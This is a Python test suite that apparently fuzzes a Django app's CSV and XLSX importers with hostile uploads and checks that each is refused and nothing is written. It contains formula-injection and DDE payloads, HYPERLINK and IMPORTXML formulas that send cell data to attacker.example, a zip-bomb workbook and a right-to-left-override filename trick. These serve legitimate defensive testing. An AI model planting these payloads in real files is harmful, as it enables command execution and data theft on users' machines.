"""Hostile files, for every registered import kind: a clear problem, nothing written, no crash.

Hypothesis builds CSV (UTF-8, UTF-8 with a BOM, Windows-1252, UTF-16) and XLSX files with each
kind's own header and rows carrying formula injection (=cmd|' /C calc'!A0, and the +, -, @
prefixes), over-long cells, and whole files that are empty, binary, not a zip, a zip that is not
a workbook, a damaged workbook, full of NUL bytes or too long. After each import every table in
the database is counted again: nothing may have been written. Examples are bounded so the suite
stays fast.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Sequence
from typing import Any

import pytest
from django.db import connection
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from gemini.core import importing, spreadsheets
from gemini.core.importing import importer_for, run_import
from gemini.core.spreadsheets import MAX_CELL_LENGTH
from gemini.core.text import formula_problem

KINDS = [kind.kind for kind in importing.kinds()]
BOUNDED = settings(
    max_examples=6,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

FORMULA_PREFIXES = ("=", "+", "-", "@", " =", "\t=")
FORMULA_BODIES = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://attacker.example/?"&A1,"Click")',
    "SUM(A1:A9)",
    "2+5+cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "A1",
    'IMPORTXML(CONCAT("https://attacker.example/?v=",A2),"//a")',
)
# Ordinary text that needs no quoting tricks, so each hostile cell lands in its own column.
ORDINARY = st.text(
    alphabet=st.characters(categories=["L", "N", "Zs"], max_codepoint=0x24F), max_size=12
)
FORMULA = st.builds(
    lambda prefix, body, tail: prefix + body + tail,
    st.sampled_from(FORMULA_PREFIXES),
    st.sampled_from(FORMULA_BODIES),
    ORDINARY,
)
LONG_CELL = st.builds(
    lambda char, extra: char * (MAX_CELL_LENGTH + extra),
    st.sampled_from(["a", "é", "£", "草"]),
    st.integers(min_value=1, max_value=300),
)
HOSTILE = st.one_of(FORMULA, LONG_CELL)
ENCODINGS = ("utf-8", "utf-8-sig", "cp1252", "utf-16")


def table_counts() -> dict[str, int]:
    """The number of rows in every table of the database, in one query."""
    with connection.cursor() as cursor:
        tables = sorted(connection.introspection.table_names(cursor))
        quote = connection.ops.quote_name
        counts = ", ".join(f"(SELECT COUNT(*) FROM {quote(t)})" for t in tables)  # noqa: S608 (names from the database)
        cursor.execute(f"SELECT {counts}")
        row = cursor.fetchone()
    return dict(zip(tables, row, strict=True))


def _csv(headers: Sequence[str], rows: Sequence[Sequence[str]], encoding: str) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow(headers)
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding, errors="replace")


def _xlsx(headers: Sequence[str], rows: Sequence[Sequence[str]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(list(headers))
    for number, row in enumerate(rows, start=2):
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(row=number, column=column, value=value)
            cell.data_type = "s"  # text that looks like a formula, as an attacker would send it
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _import_and_check_nothing_written(kind: str, data: bytes, filename: str) -> Any:
    before = table_counts()
    result = run_import(importer_for(kind), data, filename)
    assert table_counts() == before, "a refused import wrote to the database"
    assert not result.ok
    assert not result.written
    assert result.changes == []
    for problem in result.problems:
        assert problem.row >= 0
        assert isinstance(problem.message, str)
        assert problem.message.strip()
    return result


@st.composite
def hostile_rows(draw: Any, width: int) -> tuple[list[list[str]], list[tuple[int, int]]]:
    """Rows of ordinary cells, each with at least one hostile cell; and where they are."""
    rows: list[list[str]] = []
    planted: list[tuple[int, int]] = []
    for number in range(draw(st.integers(min_value=1, max_value=6))):
        row = draw(st.lists(ORDINARY, min_size=width, max_size=width))
        for column in draw(st.sets(st.integers(0, width - 1), min_size=1, max_size=2)):
            row[column] = draw(HOSTILE)
            planted.append((number + 2, column))  # the header is row 1
        rows.append(row)
    return rows, planted


@pytest.mark.django_db
@pytest.mark.parametrize("kind", KINDS)
@BOUNDED
@given(data=st.data(), form=st.sampled_from([*ENCODINGS, "xlsx"]))
def test_hostile_cells_are_each_reported_and_nothing_is_written(kind, data, form):
    headers = [column.name for column in importer_for(kind).columns]
    rows, planted = data.draw(hostile_rows(len(headers)))
    if form == "xlsx":
        content, filename = _xlsx(headers, rows), f"{kind}.xlsx"
    else:
        content, filename = _csv(headers, rows, form), f"{kind}.csv"

    result = _import_and_check_nothing_written(kind, content, filename)

    reported = {(problem.row, problem.column) for problem in result.problems}
    for row, column in planted:
        assert (row, headers[column]) in reported, (row, headers[column], result.problems[:5])


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _good_xlsx(kind: str) -> bytes:
    headers = [column.name for column in importer_for(kind).columns]
    return _xlsx(headers, [["x"] * len(headers)])


HOSTILE_FILES = st.one_of(
    st.just((b"", ".csv")),
    st.just((b"", ".xlsx")),
    st.just((b"\xef\xbb\xbf", ".csv")),
    st.just((b"\xff\xfe", ".csv")),
    st.tuples(st.binary(max_size=300).map(lambda b: b" \r\n\t" + b), st.just(".csv")),
    st.tuples(st.binary(min_size=1, max_size=2_000), st.just(".xlsx")),  # not a zip
    st.tuples(
        st.dictionaries(
            st.sampled_from(["readme.txt", "data.csv", "xl/workbook.xml", "[Content_Types].xml"]),
            st.binary(max_size=200),
            min_size=1,
        ).map(_zip),
        st.just(".xlsx"),
    ),  # a zip that is not a workbook
    st.tuples(st.binary(max_size=200), st.just(".docx")),
    st.tuples(st.binary(max_size=200), st.just("")),
)


@pytest.mark.django_db
@pytest.mark.parametrize("kind", KINDS)
@BOUNDED
@given(file=HOSTILE_FILES)
def test_a_file_that_is_not_a_usable_spreadsheet_is_refused_in_plain_words(kind, file):
    content, suffix = file

    _import_and_check_nothing_written(kind, content, f"upload{suffix}")


@pytest.mark.django_db
@pytest.mark.parametrize("kind", KINDS)
def test_a_damaged_workbook_and_nul_bytes_are_refused(kind):
    headers = ",".join(column.name for column in importer_for(kind).columns)
    truncated = _good_xlsx(kind)[:-200]
    with_nul = f"{headers}\r\nAB\x00CD\r\n".encode()
    utf16_without_bom = f"{headers}\r\nx\r\n".encode("utf-16-le")

    damaged = _import_and_check_nothing_written(kind, truncated, "damaged.xlsx")
    nul = _import_and_check_nothing_written(kind, with_nul, "nul.csv")
    wide = _import_and_check_nothing_written(kind, utf16_without_bom, "wide.csv")

    assert "is not an Excel workbook" in damaged.problems[0].message
    assert "NUL characters" in nul.problems[0].message
    assert "NUL characters" in wide.problems[0].message


@pytest.mark.django_db
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_a_file_with_too_many_rows_is_refused_before_it_is_checked(kind, form, settings):
    settings.GEMINI_IMPORT_MAX_ROWS = 300
    headers = [column.name for column in importer_for(kind).columns]
    rows = [["1"] * len(headers)] * 300
    content = _xlsx(headers, rows) if form == "xlsx" else _csv(headers, rows, "utf-8")

    result = _import_and_check_nothing_written(kind, content, f"many.{form}")

    assert [problem.message for problem in result.problems] == [
        "The file has more than 300 rows; split it into smaller files and import each in turn."
    ]


@pytest.mark.django_db
@pytest.mark.parametrize("kind", KINDS)
def test_a_large_file_of_hostile_rows_is_reported_row_by_row(kind):
    headers = [column.name for column in importer_for(kind).columns]
    rows = [[f"=cmd|' /C calc'!A{number}"] + ["x"] * (len(headers) - 1) for number in range(2_000)]

    result = _import_and_check_nothing_written(kind, _csv(headers, rows, "utf-8"), "big.csv")

    formula_rows = {p.row for p in result.problems if p.column == headers[0]}
    assert formula_rows == set(range(2, 2_002))


@pytest.mark.django_db
def test_a_workbook_that_unpacks_too_large_is_refused(monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED_BYTES", 1024 * 1024)
    rows = [["AAA", "b" * 9_000, "council"] for _ in range(200)]  # ~1.8 MB of XML, zipped small

    result = _import_and_check_nothing_written(
        "organisations", _xlsx(["code", "name", "kind"], rows), "bomb.xlsx"
    )

    assert "unpacks to" in result.problems[0].message


@pytest.mark.django_db
def test_one_formula_among_valid_rows_stops_the_whole_file():
    data = (
        b"code,name,kind\r\nAAA,Alpha Council,council\r\n"
        b'BBB,"=HYPERLINK(""https://attacker.example"",""Beta"")",council\r\n'
        b"CCC,Gamma Council,council\r\n"
    )

    result = _import_and_check_nothing_written("organisations", data, "organisations.csv")

    assert [(p.row, p.column) for p in result.problems] == [(3, "name")]
    assert "so a spreadsheet would run it as a formula" in result.problems[0].message


@pytest.mark.parametrize(
    "value", ["-5", "+1.5", "-£1,234.50", "-0.25%", "-", "+ 44", "Cheshire East", "a=b"]
)
def test_plain_numbers_and_ordinary_text_are_not_taken_for_formulas(value):
    assert formula_problem(value) is None


@pytest.mark.parametrize(
    "value", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "- see notes", "=", "+A1"]
)
def test_text_a_spreadsheet_would_run_is_taken_for_a_formula(value):
    assert formula_problem(value)


@pytest.mark.django_db
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("form", ["utf-8", "xlsx"])
def test_a_hidden_direction_control_in_any_cell_is_refused_by_column(kind, form):
    headers = [column.name for column in importer_for(kind).columns]
    row = [f"Budget \u202e{number}fdp.exe" for number in range(len(headers))]
    if form == "xlsx":
        content, filename = _xlsx(headers, [row]), f"{kind}.xlsx"
    else:
        content, filename = _csv(headers, [row], form), f"{kind}.csv"

    result = _import_and_check_nothing_written(kind, content, filename)

    refused = {p.column for p in result.problems if "right-to-left override" in p.message}
    assert refused == set(headers)
    assert all(
        "Remove the hidden right-to-left override character (U+202E) from this cell" in p.message
        for p in result.problems
        if p.column in refused
    )


@pytest.mark.django_db
def test_a_quoted_cell_with_doubled_quotes_and_commas_stays_one_cell():
    """Found by the fuzzing above: csv.Sniffer can guess that quotes are not doubled."""
    data = (
        b'code,name,kind\r\n"AAA","Alpha ""East"", Cheshire","council"\r\n'
        b'"BBB","=HYPERLINK(""https://attacker.example/?""&A1,""Click"")","council"\r\n'
    )

    table, problems = importing.read_table(
        data, "organisations.csv", importer_for("organisations").columns
    )

    assert table.rows[0][1]["name"] == 'Alpha "East", Cheshire'
    assert [(p.row, p.column) for p in problems] == [(3, "name")]
